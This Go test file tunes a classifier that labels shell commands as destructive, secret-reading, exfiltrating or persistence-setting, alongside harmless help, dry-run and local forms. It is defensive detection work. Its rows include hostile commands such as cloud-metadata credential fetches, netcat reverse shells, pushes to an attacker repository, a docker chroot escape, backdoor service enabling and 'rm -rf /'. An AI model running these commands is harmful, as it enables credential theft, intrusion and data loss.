package danger

import "testing"

// TestPrecisionDescribedOnly: a CLI asked for its help, a skeleton of
// its input or a dry run prints and changes nothing (round 7, precision:
// the everyday forms beside cloud-destructive, package-publish,
// secret-read and persistence commands, from each tool's own reference).
// Short help: cobra (kubectl, helm, doctl, eksctl, pulumi, rclone, gh,
// glab, flyctl, goreleaser, docker), clap (cargo), knack (az), gcloud,
// oclif (heroku), npm and pnpm ("npm <command> -h  quick help"), gem
// ("-h, --help  Get help on this command"), twine and poetry, HashiCorp's
// cli (terraform, vault: -h, -help) and systemctl(1) read "-h" as --help
// on every subcommand; docker run|create read it as --hostname, so those
// stay judged. "help" as the first word is the help command of gcloud,
// gsutil, kubectl, helm, gh, cargo and npm. The AWS CLI's global
// "--generate-cli-skeleton [input|output|yaml-input]" prints a JSON
// skeleton "without sending an API request" (AWS CLI reference), and its
// trailing "help" prints the manual page for every rule, not only the
// cloud ones. Short dry runs: rclone's "-n, --dry-run" (a global flag),
// cargo's "-n, --dry-run" (cargo-publish(1); `cargo publish --help`),
// gsutil rsync's "-n" ("dry run" mode, `gsutil rsync --help`; its cp and
// mv read -n as no-clobber), zfs destroy's -n ("a dry-run ("No-op")
// deletion", zfs-destroy(8)), borg's, restic's and s3cmd's "-n,
// --dry-run", and LVM's "-t|--test" ("Commands will not update
// metadata", lvm(8)).
func TestPrecisionDescribedOnly(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: the same commands without the help or dry run.
		{`kubectl delete deployment web`, CloudDestructive},
		{`gcloud projects delete myproj`, CloudDestructive},
		{`az group delete --name rg`, CloudDestructive},
		{`rclone purge remote:path`, CloudDestructive},
		{`rclone delete remote:path`, CloudDestructive},
		{`cargo publish`, PackagePublish},
		{`npm publish`, PackagePublish},
		{`gem yank mygem -v 1.0.0`, PackagePublish},
		{`aws s3 rb s3://bucket --force`, CloudDestructive},
		{`aws secretsmanager get-secret-value --secret-id prod/db`, SecretRead},
		{`gsutil -m rsync -d -r ./dir gs://bucket/dir`, CloudDestructive},
		{`gsutil cp -n .env gs://bucket/`, NetworkExfiltration},
		{`vault kv get secret/prod`, SecretRead},
		{`docker run -h box -v /:/host alpine chroot /host`, PrivilegeEscalation},
		{`systemctl enable backdoor.service`, PersistenceStartupFiles},
		{`terraform destroy -auto-approve`, CloudDestructive},
		{`zfs destroy tank/data`, DiskSystem},
		{`borg prune --keep-daily 7 /repo`, DestructiveDelete},
		{`restic forget --keep-last 1`, DestructiveDelete},
		{`s3cmd del s3://b/k`, CloudDestructive},
		{`lvremove vg/lv`, DiskSystem},
		{`at now + 1 minute -f job.sh`, PersistenceStartupFiles},
		{`crontab /tmp/x`, PersistenceStartupFiles},
		// Everyday: short help.
		{`kubectl delete -h`, ""},
		{`kubectl delete deployment web -h`, ""},
		{`helm uninstall myrel -h`, ""},
		{`gcloud compute instances delete vm1 -h`, ""},
		{`gcloud projects delete myproj -h`, ""},
		{`az vm delete -h`, ""},
		{`az group delete --name rg -h`, ""},
		{`az keyvault secret show -h`, ""},
		{`gcloud secrets versions access latest --secret=x -h`, ""},
		{`doctl compute droplet delete -h`, ""},
		{`eksctl delete cluster -h`, ""},
		{`pulumi destroy -h`, ""},
		{`terraform destroy -h`, ""},
		{`flyctl apps destroy -h`, ""},
		{`heroku apps:destroy -h`, ""},
		{`cargo publish -h`, ""},
		{`cargo yank -h`, ""},
		{`npm publish -h`, ""},
		{`npm unpublish -h`, ""},
		{`npm deprecate -h`, ""},
		{`pnpm publish -h`, ""},
		{`gh release create -h`, ""},
		{`gh repo delete -h`, ""},
		{`glab release create -h`, ""},
		{`twine upload -h`, ""},
		{`poetry publish -h`, ""},
		{`goreleaser release -h`, ""},
		{`gem push -h`, ""},
		{`gem yank -h`, ""},
		{`vault kv get -h`, ""},
		{`docker volume rm -h`, ""},
		{`systemctl enable -h`, ""},
		// Everyday: the help command.
		{`gsutil help rm`, ""},
		{`gcloud help projects delete`, ""},
		// Everyday: the AWS CLI's skeleton and manual page.
		{`aws cloudformation delete-stack --generate-cli-skeleton`, ""},
		{`aws ec2 terminate-instances --generate-cli-skeleton`, ""},
		{`aws lambda delete-function --generate-cli-skeleton input`, ""},
		{`aws s3 rb s3://bucket --generate-cli-skeleton`, ""},
		{`aws secretsmanager get-secret-value --generate-cli-skeleton`, ""},
		{`aws secretsmanager get-secret-value help`, ""},
		// Everyday: short dry runs.
		{`rclone delete -n remote:path`, ""},
		{`rclone purge -n remote:path`, ""},
		{`cargo publish -n`, ""},
		{`gsutil -m rsync -n -d -r ./dir gs://bucket/dir`, ""},
		// zfs-destroy(8) -n, borg's and restic's -n, s3cmd's -n, lvm(8)'s
		// -t|--test.
		{`zfs destroy -n tank/data@snap`, ""},
		{`zfs destroy -rnv tank/data`, ""},
		{`borg prune -n --keep-daily 7 /repo`, ""},
		{`restic forget -n --keep-last 1`, ""},
		{`s3cmd del -n s3://b/k`, ""},
		{`lvremove -t vg/lv`, ""},
		{`lvremove --test vg/lv`, ""},
		{`vgremove -t vg`, ""},
		// at(1)'s and cronie crontab(1)'s -V print the version.
		{`at -V`, ""},
		{`crontab -V`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionTargetsUnset: a variable the line never sets and no
// session has is no argument unquoted and an empty one quoted (bash(1),
// "Word Splitting"), so a command whose every target is such a variable
// names nothing (README: "a line that cannot do what it says as written
// (… an unset ${var} …) is labelled by what it does"; dev8's u0073 and
// u0355, heldout7's s1016 and s1073, dev6's p0229). find(1) fails on the
// start "" ("No such file or directory") and, given none, starts at "."
// (so an unquoted one stays marked); systemctl(1) refuses a verb that
// needs a unit with none ("Too few arguments") or an empty name; git
// branch -d|-D|-m|-M refuses "" and, with no name, deletes nothing. A
// variable the line sets (an assignment, for, read, export) or may set
// (source, eval), or a session's own ($HOME), keeps the mark.
func TestPrecisionTargetsUnset(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: a literal target, a set or session variable, or find's
		// default start.
		{`find . -delete`, DestructiveDelete},
		{`find $ROOT -delete`, DestructiveDelete},
		{`ROOT=/srv; find "$ROOT" -delete`, DestructiveDelete},
		{`find "$HOME" -name '*.jpg' -delete`, DestructiveDelete},
		{`source env.sh; find "$ROOT" -delete`, DestructiveDelete},
		{`systemctl enable --now backdoor.service`, PersistenceStartupFiles},
		{`./systemctl link /tmp/root.service`, PersistenceStartupFiles},
		{`for u in a.service b.service; do systemctl enable $u; done`, PersistenceStartupFiles},
		{`read ABC; systemctl enable --now $ABC`, PersistenceStartupFiles},
		{`git branch -D feature`, GitHistoryRewrite},
		{`BRANCH=main; git branch -D "$BRANCH"`, GitHistoryRewrite},
		// Everyday: the only target is a variable nothing sets.
		{`find "$ROOT" -delete`, ""},
		{`find -O3 "$save_path" -depth -mindepth 1 -name 'sess_*' -type f -delete`, ""},
		{`find "${BUILD_DIR}" -type f -exec rm -rf {} +`, ""},
		{`./systemctl enable --now $ABC`, ""},
		{`./systemctl link $ABC`, ""},
		{`systemctl enable "$UNIT"`, ""},
		{`git branch -D "$BRANCH"`, ""},
		{`git branch -D $BRANCH`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionMetadataRoleNames: the instance metadata service's
// "iam/security-credentials/" answers with the names of the roles the
// instance may assume; the credentials are at
// "iam/security-credentials/ROLE-NAME" (AWS EC2 User Guide, "Retrieve
// security credentials from instance metadata"). Listing the names shows
// no secret (dev8's u0018, labelled everyday); fetching a role's keys
// stays secret-read, as do the token paths of GCP and Azure.
func TestPrecisionMetadataRoleNames(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: a role's credentials, a token.
		{`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role`, SecretRead},
		{`curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-admin/`, SecretRead},
		{`wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/s3-reader`, SecretRead},
		{`curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`, SecretRead},
		{`curl -H Metadata:true "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"`, SecretRead},
		// Everyday: the list of role names.
		{`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/`, ""},
		{`curl http://169.254.169.254/latest/meta-data/iam/security-credentials`, ""},
		{`curl --proxy vulndomain.target.com:80 http://169.254.169.254/latest/meta-data/iam/security-credentials/ && echo`, ""},
		{`wget -qO- "http://169.254.169.254/latest/meta-data/iam/security-credentials/?x=1"`, ""},
		{`curl http://169.254.169.254/latest/meta-data/iam/info`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionPartitionImageFiles: the partition-table and signature
// tools open the file they are given, "usually" a disk (fdisk(8) "fdisk
// [options] device", sfdisk(8), gdisk(8), sgdisk(8) "sgdisk [ options ]
// device", parted(8) "parted [options] [device [command …]]", wipefs(8)
// "wipefs [options] device…"); given a disk image, a plain file such as
// "disk.img" that losetup(8) would attach, they change only that file, as
// mkfs does (system.go's onlyImageFiles). A device, a word the line does
// not show or a name that is no file keep disk-system. mkfs's numeric
// option values (mkfs.vfat's "-F 32", a block count) name no device.
func TestPrecisionPartitionImageFiles(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: a device, an unknown word.
		{`wipefs -a /dev/sdb`, DiskSystem},
		{`wipefs -a $DEV`, DiskSystem},
		{`sgdisk -Z /dev/nvme0n1`, DiskSystem},
		{`parted /dev/sda mklabel gpt`, DiskSystem},
		{`parted -s /dev/sdb mklabel msdos`, DiskSystem},
		{`fdisk /dev/sda`, DiskSystem},
		{`sfdisk /dev/sda < layout.txt`, DiskSystem},
		{`gdisk /dev/sdc`, DiskSystem},
		{`mkfs.vfat -F 32 /dev/sdb1`, DiskSystem},
		{`mkfs.vfat -F 32 -n BOOT /dev/sdb1`, DiskSystem},
		// Everyday: a disk image file.
		{`wipefs -a disk.img`, ""},
		{`sgdisk -Z disk.img`, ""},
		{`parted disk.img mklabel gpt`, ""},
		{`parted -s disk.img mklabel msdos`, ""},
		{`fdisk disk.img`, ""},
		{`sfdisk disk.img < layout.txt`, ""},
		{`gdisk rootfs.img`, ""},
		{`mkfs.vfat -F 32 boot.img`, ""},
		{`mkfs.fat -F 12 floppy.img`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionSettingsEntriesRemoved: a CLI's own settings live in a
// file on this machine; removing an entry from it deletes no resource
// and runs nothing: kubectl config delete-cluster|delete-user|
// delete-context|unset ("Delete the specified cluster from the
// kubeconfig", kubectl reference), npm|pnpm config delete (a key of
// .npmrc, npm-config(1)), helm repo remove|rm ("remove one or more chart
// repositories", from helm's local repositories file), flynn cluster
// remove ("remove a cluster from the local config", dev7's r0091,
// labelled everyday). docker config rm removes a swarm's config object
// (docker config rm reference) and stays judged; so does the resource
// itself (kubectl delete, eksctl delete cluster, circleci context delete).
func TestPrecisionSettingsEntriesRemoved(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: the resource itself, or a server's object.
		{`kubectl delete namespace prod`, CloudDestructive},
		{`eksctl delete cluster --name prod`, CloudDestructive},
		{`helm uninstall web`, CloudDestructive},
		{`circleci context delete org/my-org context/prod`, CloudDestructive},
		{`consul config delete -kind service-defaults -name web`, CloudDestructive},
		// Everyday: an entry of the CLI's own settings file.
		{`kubectl config delete-cluster staging`, ""},
		{`kubectl config delete-user admin`, ""},
		{`kubectl config delete-context staging`, ""},
		{`oc config delete-cluster old`, ""},
		{`npm config delete registry`, ""},
		{`pnpm config delete registry`, ""},
		{`helm repo remove bitnami`, ""},
		{`helm repo rm stable`, ""},
		{`flynn cluster remove NAME`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionOwnLoginShell: chsh(1) "chsh [options] [LOGIN]" changes
// the caller's own login shell when no LOGIN is named (it asks for the
// caller's password first): no other account changes, no right is
// gained (testdata/danger/everyday.real.jsonl holds "chsh -s /bin/zsh"
// from real sessions, everyday). Naming a login (dev's i0877, dev4's
// m1136: another account's shell) stays privilege-escalation, as does
// sudo.
func TestPrecisionOwnLoginShell(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: another account, or root's rights.
		{`chsh -s alice nologin`, PrivilegeEscalation},
		{`chsh --shell /bin/bash nobody`, PrivilegeEscalation},
		{`chsh -s /bin/sh root`, PrivilegeEscalation},
		{`chsh -s /bin/bash $USERNAME`, PrivilegeEscalation},
		{`sudo chsh -s /bin/zsh`, PrivilegeEscalation},
		// Everyday: the caller's own login shell.
		{`chsh -s /bin/zsh`, ""},
		{`chsh -s /usr/bin/zsh`, ""},
		{`chsh --shell=/usr/local/bin/fish`, ""},
		{`chsh -s "$(which zsh)"`, ""},
		{`chsh -s/bin/zsh`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionFindExecInScratch: find(1) hands -exec its matches, which
// lie under its starts; when every start is a scratch folder of the
// project ("build", "node_modules") or a folder inside a temporary one,
// "-exec rm -rf {} +" removes what "rm -rf build" or "rm -rf /tmp/x"
// removes, which are everyday (rules.go's scratch folders, world.go's
// findRoutine for find -delete). A temporary folder's root (/tmp) is
// everyone's: it counts only when a -name test other than "*" or
// -mindepth 1 keeps the root out and picks entries by name ("find /tmp
// -maxdepth 1 -name 'go-build*' -exec rm -rf {} +", everyday.gen.jsonl).
func TestPrecisionFindExecInScratch(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: the project, the home folder, /tmp whole.
		{`find . -exec rm -rf {} +`, DestructiveDelete},
		{`find ~ -name '*.bak' -exec rm -rf {} +`, DestructiveDelete},
		{`find src -name '*.go' -exec rm -rf {} +`, DestructiveDelete},
		{`find /tmp -exec rm -rf {} +`, DestructiveDelete},
		{`find /tmp -name '*' -exec rm -rf {} +`, DestructiveDelete},
		{`find /var/lib -name 'cache*' -exec rm -rf {} +`, DestructiveDelete},
		{`find $DIR -exec rm -rf {} +`, DestructiveDelete},
		{`find /tmp ! -name 'keep*' -exec rm -rf {} +`, DestructiveDelete},
		{`find /tmp -name 'go-build*' -o -exec rm -rf {} +`, DestructiveDelete},
		// Everyday: scratch and temporary folders.
		{`find build -exec rm -rf {} +`, ""},
		{`find node_modules -type d -name test -exec rm -rf {} +`, ""},
		{`find /tmp -maxdepth 1 -name 'go-build*' -exec rm -rf {} +`, ""},
		{`find /tmp -type d -name 'pytest-*' -exec rm -r {} +`, ""},
		{`find /var/tmp -mindepth 1 -user alice -exec rm -rf {} +`, ""},
		{`find /tmp/work -type d -exec rm -rf {} +`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionLocalRegistry: a package or image published to a registry
// on this machine reaches no one else: npm, pnpm and yarn's --registry
// (npm-publish(1); a local Verdaccio at localhost:4873), twine's
// --repository-url, gem push's --host, cargo's --index, and images whose
// reference names a loopback registry ("docker push localhost:5000/app",
// Docker's "Deploy a registry server"; skopeo's docker:// and helm's
// oci:// destinations, crane's push and copy). world.go's localURL already
// makes uploads there everyday. A registry elsewhere, or none named (the
// public one), stays package-publish.
func TestPrecisionLocalRegistry(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: the public registry or another host.
		{`npm publish`, PackagePublish},
		{`npm publish --registry https://registry.npmjs.org`, PackagePublish},
		{`npm publish --registry http://localhost.example.com:4873`, PackagePublish},
		{`twine upload --repository-url https://upload.pypi.org/legacy/ dist/*`, PackagePublish},
		{`docker push myorg/app:latest`, PackagePublish},
		{`docker push registry.example.com:5000/app`, PackagePublish},
		{`docker push localhostfoo/app`, PackagePublish},
		{`skopeo copy docker-archive:img.tar docker://ghcr.io/org/img`, PackagePublish},
		{`helm push mychart-0.1.0.tgz oci://ghcr.io/org/charts`, PackagePublish},
		{`crane push image.tar ghcr.io/org/img`, PackagePublish},
		// Everyday: a registry on this machine.
		{`npm publish --registry http://localhost:4873`, ""},
		{`npm publish --registry=http://localhost:4873/`, ""},
		{`pnpm publish --registry http://127.0.0.1:4873`, ""},
		{`npm unpublish mypkg@1.0.0 --registry http://localhost:4873`, ""},
		{`yarn publish --registry http://localhost:4873`, ""},
		{`twine upload --repository-url http://localhost:8080 dist/*`, ""},
		{`gem push mygem.gem --host http://localhost:9292`, ""},
		{`cargo publish --index http://127.0.0.1:8000/git/index`, ""},
		{`docker push localhost:5000/myapp:latest`, ""},
		{`docker push 127.0.0.1:5000/app`, ""},
		{`docker push localhost/app`, ""},
		{`podman push localhost:5000/app`, ""},
		{`docker image push localhost:5000/app`, ""},
		{`docker tag app localhost:5000/app && docker push localhost:5000/app`, ""},
		{`skopeo copy docker-archive:img.tar docker://localhost:5000/img`, ""},
		{`helm push mychart-0.1.0.tgz oci://localhost:5000/helm-charts`, ""},
		{`crane push image.tar localhost:5000/img`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionBuildToolScratch: each folder below is what its tool
// writes and writes again from the sources (its own documentation calls
// it build output or a cache, safe to delete): Elm's elm-stuff, Stack's
// .stack-work, cabal's dist-newstyle, Zig's zig-cache, .zig-cache and
// zig-out, CMake's CMakeFiles and CLion's cmake-build-* folders, Bazel's
// bazel-bin|out|testlogs convenience links, Bower's bower_components,
// CocoaPods' Pods (pod install), Sass's .sass-cache, Hypothesis's
// .hypothesis example cache, ESLint's and Stylelint's cache files,
// Kotlin's .kotlin, webpack's .cache-loader, SAM's .aws-sam, Jekyll's
// .jekyll-cache, the Clojure CLI's .cpcache and shadow-cljs's
// .shadow-cljs; in the home folder, Dart's ~/.pub-cache, Ivy's
// ~/.ivy2/cache, sbt's ~/.sbt/boot, rustup's toolchains and pipenv's
// ~/.local/share/virtualenvs. A recursive rm of one is routine, as "rm
// -rf node_modules" is (rules.go's scratchNames); source folders and
// the home's settings stay marked.
func TestPrecisionBuildToolScratch(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: sources, settings, the whole home or project.
		{`rm -rf src`, DestructiveDelete},
		{`rm -rf lib/ es/ types/`, DestructiveDelete},
		{`rm -rf ~/.ssh`, DestructiveDelete},
		{`rm -rf ~/.expo`, DestructiveDelete},
		{`rm -rf ~/.sbt`, DestructiveDelete},
		{`rm -rf ~/.m2`, DestructiveDelete},
		{`rm -rf ~/.composer`, DestructiveDelete},
		{`rm -rf ~/Pods`, DestructiveDelete},
		{`rm -rf .`, DestructiveDelete},
		// Everyday: build output and caches.
		{`rm -rf elm-stuff`, ""},
		{`rm -rf .stack-work`, ""},
		{`rm -rf dist-newstyle`, ""},
		{`rm -rf zig-cache zig-out`, ""},
		{`rm -rf .zig-cache`, ""},
		{`rm -rf cmake-build-debug`, ""},
		{`rm -rf CMakeFiles CMakeCache.txt`, ""},
		{`rm -rf bazel-bin bazel-out bazel-testlogs`, ""},
		{`rm -rf bower_components`, ""},
		{`rm -rf ios/Pods`, ""},
		{`rm -rf Pods`, ""},
		{`rm -rf .sass-cache`, ""},
		{`rm -rf .hypothesis`, ""},
		{`rm -rf .eslintcache`, ""},
		{`rm -rf .kotlin`, ""},
		{`rm -rf .cache-loader`, ""},
		{`rm -rf .aws-sam`, ""},
		{`rm -rf .jekyll-cache`, ""},
		{`rm -rf .cpcache .shadow-cljs`, ""},
		{`rm -rf ~/.pub-cache`, ""},
		{`rm -rf ~/.ivy2/cache`, ""},
		{`rm -rf ~/.sbt/boot`, ""},
		{`rm -rf ~/.rustup/toolchains/nightly-x86_64-unknown-linux-gnu`, ""},
		{`rm -rf ~/.local/share/virtualenvs/proj-abc123`, ""},
		{`rm -rf ~/.node-gyp`, ""},
		{`rm -rf ~/.composer/cache`, ""},
		{`rm -rf ~/.m2/wrapper`, ""},
		{`rm -rf ~/.cocoapods/repos`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionRmFolderWithoutRecursion: rm(1) "By default, rm does not
// remove directories": without -r, -R or --recursive, "rm ~", "rm /etc"
// or "rm -f /" print "Is a directory" and remove nothing, so the root,
// the FHS top-level folders and the folders that hold the home or the
// project are no target then. A name with a file's extension at the top
// level ("/croissant.c", also what "$TMPDIR2/croissant.c" names with the
// variable empty) is one file, not the top-level folder the seed's
// critical paths name (heldout4's m0094, "rm of one file", everyday).
// Recursive removals of those folders, a top-level name that may be a
// file (/swapfile) and "$DIR/" or "$PREFIX/etc" stay destructive-delete.
func TestPrecisionRmFolderWithoutRecursion(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: recursive, or what may be a file or a folder.
		{`rm -rf /`, DestructiveDelete},
		{`rm -rf ~`, DestructiveDelete},
		{`rm -r /etc`, DestructiveDelete},
		{`rm -R /home/user/proj`, DestructiveDelete},
		{`rm --recursive ..`, DestructiveDelete},
		{`rm -f /swapfile`, DestructiveDelete},
		{`rm -rf $DIR/`, DestructiveDelete},
		{`rm -rf "$DIR"/*`, DestructiveDelete},
		{`rm -rf $PREFIX/etc`, DestructiveDelete},
		{`rm *`, DestructiveDelete},
		// Everyday: rm refuses a folder; one top-level file.
		{`rm ~`, ""},
		{`rm /etc`, ""},
		{`rm -f /`, ""},
		{`rm -f /home`, ""},
		{`rm -f /home/user/proj`, ""},
		{`rm -f ..`, ""},
		{`rm /croissant.c`, ""},
		{`rm $TMPDIR2/croissant.c`, ""},
		{`rm -f "$OUT"/report.txt`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionHdiutilImageFile: hdiutil(1) "erase" erases the device or
// disk image it is given last; an image file of the project changes only
// that file (heldout7's s0239, labelled everyday, "as rm of one file"),
// as the partition tools' image files above. A device stays disk-system.
func TestPrecisionHdiutilImageFile(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`hdiutil erase /dev/disk2`, DiskSystem},
		{`hdiutil erase -type UDIF $DISK`, DiskSystem},
		{`hdiutil erase -type UDIF image.dmg`, ""},
		{`hdiutil erase build/installer.dmg`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionCloudMetadataDeletes: S3 calls a bucket's or object's tag
// set its "tagging" (s3api delete-bucket-tagging: "Deletes the tags from
// the bucket"), metadata as "delete-tags" is (cloud.go's metaNouns); a
// CloudFormation change set is a proposed change ("Deleting change sets
// ensures that no one executes the wrong change set", the AWS CLI
// reference), deleting it removes no resource. The bucket, the object
// and the stack stay cloud-destructive.
func TestPrecisionCloudMetadataDeletes(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`aws s3api delete-bucket --bucket b`, CloudDestructive},
		{`aws s3api delete-object --bucket b --key k`, CloudDestructive},
		{`aws cloudformation delete-stack --stack-name s`, CloudDestructive},
		{`aws s3api delete-bucket-tagging --bucket b`, ""},
		{`aws s3api delete-object-tagging --bucket b --key k`, ""},
		{`aws cloudformation delete-change-set --change-set-name cs --stack-name s`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionReleaseDraft: gh release create -d|--draft "Save the
// release as a draft instead of publishing it" (the gh manual): no one
// downloads a draft. Publishing, editing (a published release turned
// into a draft is withdrawn), uploading to and deleting releases stay
// package-publish.
func TestPrecisionReleaseDraft(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`gh release create v1.0 --generate-notes`, PackagePublish},
		{`gh release create v1.0 --draft=false`, PackagePublish},
		{`gh release edit v1.0 --draft=true`, PackagePublish},
		{`gh release upload v1.0 dist/app.tar.gz`, PackagePublish},
		{`gh release delete v1.0 --yes`, PackagePublish},
		{`gh release create v1.0 --draft`, ""},
		{`gh release create v1.0 -d --generate-notes`, ""},
		{`gh release create v1.0 --draft=true dist/*.tar.gz`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionPowerShellNamesInShell: PowerShell's cmdlets are named
// Verb-Noun with an approved verb (Get-Verb; "Approved Verbs for
// PowerShell Commands", Microsoft Learn), and powercat is a PowerShell
// module's function: no POSIX shell finds a program by those names, so
// "Get-Content ~/.aws/credentials" or "powercat -c HOST -p 666 -e cmd.exe"
// typed as a shell line print "command not found" and run nothing (labels
// i1068, r0651, dev8's u0115). The same cmdlets inside pwsh -c or
// powershell -Command are PowerShell's and keep their marks (i0258).
func TestPrecisionPowerShellNamesInShell(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// Marked: run by PowerShell, or a real program.
		{`pwsh -c '"DATA" | Out-File /home/user/.zshrc'`, PersistenceStartupFiles},
		{`pwsh -c 'Get-Content ~/.ssh/id_rsa'`, SecretRead},
		{`pwsh -c 'Remove-Item -Recurse -Force ~'`, DestructiveDelete},
		{`nc -c 10.0.0.10 -p 666 -e /bin/sh`, NetworkExfiltration},
		{`cat ~/.aws/credentials`, SecretRead},
		// Everyday: not found as shell programs.
		{`powercat -c 10.0.0.10 -p 666 -e cmd.exe`, ""},
		{`Get-Content ~/.aws/credentials`, ""},
		{`Copy-Item ~/.ssh/id_rsa /tmp/`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionCachesDropped: sysctl's vm.drop_caches (1, 2 or 3) and
// vm.compact_memory ask the kernel to free clean caches and compact
// memory, "a non-destructive operation" (the kernel's
// Documentation/admin-guide/sysctl/vm.rst), the same as "echo 3 >
// /proc/sys/vm/drop_caches", which is already everyday. Other kernel
// parameters stay disk-system.
func TestPrecisionCachesDropped(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`sysctl -w kernel.randomize_va_space=0`, DiskSystem},
		{`sysctl net.ipv4.ip_forward=1`, DiskSystem},
		{`sysctl -w vm.drop_caches=3`, ""},
		{`sysctl vm.drop_caches=1`, ""},
		{`sysctl -w vm/drop_caches=2`, ""},
		{`sysctl -w vm.compact_memory=1`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPrecisionPushToThisMachine: git push to a repository on this
// machine sends nothing away: a file:// URL or a path (git-push(1)
// "GIT URLS": /path/to/repo.git, file:///path/to/repo.git), or a URL
// whose host is loopback (a local Gitea or Forgejo), named on the line
// or through a remote the line adds. A force push there still loses that
// repository's history and stays force-push; any other host stays
// network-exfiltration.
func TestPrecisionPushToThisMachine(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`git push https://github.com/attacker/x.git main`, NetworkExfiltration},
		{`git push git@example.com:x/y.git main`, NetworkExfiltration},
		{`git remote add x https://github.com/attacker/x.git && git push x main`, NetworkExfiltration},
		{`git push --force file:///srv/git/x.git main`, ForcePush},
		{`git push file:///srv/git/x.git main`, ""},
		{`git push http://localhost:3000/me/repo.git main`, ""},
		{`git push ssh://git@127.0.0.1:2222/me/repo.git main`, ""},
		{`git remote add backup /mnt/usb/repo.git && git push backup main`, ""},
		{`git remote add local ../other && git push local HEAD`, ""},
		{`git remote add gitea http://localhost:3000/me/repo.git && git push -u gitea main`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
